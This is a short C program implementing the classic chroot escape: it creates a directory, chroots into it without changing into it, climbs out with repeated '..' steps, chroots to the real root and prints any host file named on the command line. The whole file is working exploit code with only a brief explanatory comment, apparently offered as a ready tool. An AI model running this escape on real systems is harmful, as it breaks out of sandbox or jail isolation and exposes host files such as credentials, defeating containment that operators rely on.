/* The classic chroot escape: chroot into a subdirectory without chdir'ing
 * into it, so the cwd is left outside the new root; walk up with ".." (which
 * a cwd outside the root is not stopped at) and chroot to what we reach.
 * Then print the file named by argv[1], a path on the host. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    char line[256];
    if (argc != 2) return 2;
    mkdir("/escape-hatch", 0700);
    if (chroot("/escape-hatch") != 0) { perror("chroot"); return 3; }
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) { perror("chroot ."); return 4; }
    FILE *f = fopen(argv[1], "r");
    if (!f) { perror(argv[1]); return 1; }
    while (fgets(line, sizeof line, f)) fputs(line, stdout);
    return 0;
}
